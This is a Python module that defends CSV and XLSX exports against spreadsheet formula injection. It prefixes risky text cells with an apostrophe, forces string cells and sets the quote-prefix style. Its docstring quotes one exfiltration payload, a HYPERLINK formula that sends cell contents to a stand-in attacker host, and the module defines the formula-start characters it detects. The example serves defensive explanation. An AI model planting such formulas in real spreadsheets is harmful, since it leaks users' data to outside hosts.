"""Spreadsheet cells that cannot turn into formulas (CSV and XLSX exports).

A name set by an LMS through LTI or by API enrolment, a quiz title, an answer: whatever a person
typed can reach a spreadsheet, and Excel or LibreOffice evaluate a CSV field or a string that
starts like a formula (``=HYPERLINK("http://evil.example/?"&A1,"click")``). Every export writes
its rows through :func:`csv_row` or :func:`xlsx_append` and never formats a cell itself.

The rule (OWASP, "CSV Injection"), applied to text only:

- a text cell whose first character, or first character after leading whitespace, is one of
  ``= + - @``, a tab, CR or LF, or their full-width forms ``＝ ＋ － ＠`` (East Asian spreadsheet
  locales turn those into operators as they are typed), is *neutralised*;
- in CSV a neutralised cell gets a leading apostrophe ``'`` — the spreadsheet shows it as text;
- in XLSX a text cell is always stored as a string (``t="s"``), never as a formula or an error
  code, and a neutralised one also carries Excel's "quote prefix" style so that it stays text
  even after someone edits the cell;
- numbers the app computes itself (scores, points, ``-0.5``) are not text: they are written as
  numbers, unquoted in CSV (with a decimal comma for the ``;``-separated Russian-locale file)
  and as numeric cells in XLSX.

>>> neutralise('=1+1'), neutralise('  @SUM(A1)'), neutralise('Иванова'), neutralise('')
("'=1+1", "'  @SUM(A1)", 'Иванова', '')
>>> csv_row(['-x', Decimal('-0.50'), None, 3], decimal_comma=True)
["'-x", '-0,50', '', '3']
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal
from numbers import Real

__all__ = ["FORMULA_STARTS", "csv_row", "is_formula_like", "neutralise", "xlsx_append"]

FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula (see the module's rule)."""
    if not text:
        return False
    if text[0] in FORMULA_STARTS:
        return True
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def neutralise(text: str) -> str:
    """``text`` with an apostrophe in front when it could start a formula (CSV)."""
    return "'" + text if is_formula_like(text) else text


def _is_number(value) -> bool:
    return isinstance(value, Real | Decimal) and not isinstance(value, bool)


def _csv_number(value, *, decimal_comma: bool) -> str:
    text = format(value, "f") if isinstance(value, Decimal) else str(value)
    return text.replace(".", ",") if decimal_comma else text


def csv_row(values: Iterable, *, decimal_comma: bool) -> list[str]:
    """One CSV row: numbers as numbers, ``None`` empty, everything else neutralised text."""
    row = []
    for value in values:
        if value is None:
            row.append("")
        elif _is_number(value):
            row.append(_csv_number(value, decimal_comma=decimal_comma))
        else:
            row.append(neutralise(str(value)))
    return row


def xlsx_append(ws, values: Iterable, *, font=None) -> None:
    """Append one row to an openpyxl worksheet: numbers numeric, text forced to a string cell.

    openpyxl reads a ``str`` starting with ``=`` as a formula and ``#N/A`` as an error code, so
    the type is set after the value. Characters XML cannot carry (control characters other than
    tab, CR and LF) are dropped instead of failing the whole export.
    """
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    cells = []
    for value in values:
        cell = Cell(ws)
        if value is None:
            pass
        elif _is_number(value):
            cell.value = float(value) if isinstance(value, Decimal) else value
        else:
            text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
            cell.value = text
            cell.data_type = "s"
            if is_formula_like(text):
                cell.quotePrefix = True
        if font is not None:
            cell.font = font
        cells.append(cell)
    ws.append(cells)
